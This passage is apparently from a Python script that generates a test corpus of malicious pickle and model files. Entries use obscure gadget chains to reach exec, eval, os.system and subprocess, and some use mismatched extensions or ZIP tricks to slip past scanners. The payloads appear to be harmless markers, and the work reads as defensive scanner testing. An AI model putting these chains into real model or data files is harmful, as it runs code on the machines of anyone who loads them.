    add(m, ".pkl", pk(call(gl("code", "InteractiveInterpreter.runsource"), interp, s(py(m)))), "pickle.load", 6,
        "code.InteractiveInterpreter.runsource (unbound method, protocol 4 dotted)", "exec via code")
    m = nid()
    getter = call(gl("_operator", "attrgetter"), s("system"))
    add(m, ".pkl", pk(call(call(getter, sg("pathlib", "os")), s(shell(m)))), "pickle.load", 6,
        "_operator.attrgetter('system')(pathlib.os)(cmd)", "os.system")
    m = nid()
    add(m, ".pkl", pk(call(gl("torch.jit.unsupported_tensor_ops", "execWrapper"), s(py(m)), EMPTY_DICT, EMPTY_DICT)), "pickle.load", 6,
        "torch.jit.unsupported_tensor_ops.execWrapper (exec)", "exec")
    m = nid()
    add(m, ".pkl", pk(call(gl("numpy.f2py.crackfortran", "myeval"), s(pyexpr(m)))), "pickle.load", 6,
        "numpy.f2py.crackfortran.myeval (eval)", "eval")
    m = nid()
    add(m, ".pkl", pk(call(gl("torch.utils.bottleneck.__main__", "run_cprofile"), s(py(m)), EMPTY_DICT)), "pickle.load", 6,
        "torch.utils.bottleneck.__main__.run_cprofile (exec under cProfile)", "exec")
    m = nid()
    add(m, ".safetensors", torch_zip(pk(call(gl("os", "system"), s(shell(m))), 2)), "torch.load", 6,
        "mismatched extension: a torch zip named .safetensors", "os.system")
    m = nid()
    add(m, ".npy", payload(m), "numpy.load", 6,
        "mismatched extension: a raw pickle named .npy (numpy.load falls back to pickle with allow_pickle)", "os.system")
    m = nid()
    add(m, ".pt", torch_zip(pk(call(gl("os", "system"), s(shell(m))), 2), prefix="weights_v2"), "torch.load", 6,
        "ZIP trick: torch archive whose top folder is not 'archive' (torch takes any single prefix)", "os.system")
    m = nid()
    add(m, ".pkl", pk(call(gl("pip._internal.utils.misc", "os.system"), s(shell(m)))), "pickle.load", 6,
        "pip namespace walk pip._internal.utils.misc + os.system (CVE-2025-1716 class: pip as a gadget host)", "os.system")
    m = nid()
    add(m, ".pkl", pk(call(gl("asyncio.subprocess", "subprocess.run"), lst(s("touch"), s(f"MARKER_{m}")))), "pickle.load", 6,
        "asyncio.subprocess.subprocess.run walk", "subprocess.run")
    m = nid()
    g = gl("lib2to3.pgen2.grammar", "Grammar") + EMPTY_TUPLE + NEWOBJ
    inner = pk(call(gl("os", "system"), s(shell(m))), 2)
    add(m, ".pkl", pk(call(gl("lib2to3.pgen2.grammar", "Grammar.loads"), g, b"C" + bytes([len(inner)]) + inner)), "pickle.load", 6,
        "lib2to3.pgen2.grammar.Grammar.loads(grammar, bytes): unpickles a nested pickle (lib2to3 advisory class)", "pickle.loads -> os.system")


def zipfile_one(name, data):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(name, data)
    return buf.getvalue()


def tar_one(name, data):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        ti = tarfile.TarInfo(name)
        ti.size = len(data)
        ti.mtime = 0
        t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    build()
    ids = [e["id"] for e in ENTRIES]
    assert len(ids) == len(set(ids))
    with open(os.path.join(HERE, "manifest.json"), "w") as f:
        json.dump(ENTRIES, f, indent=1)
        f.write("\n")
    print(f"{len(ENTRIES)} entries")


if __name__ == "__main__":
    main()
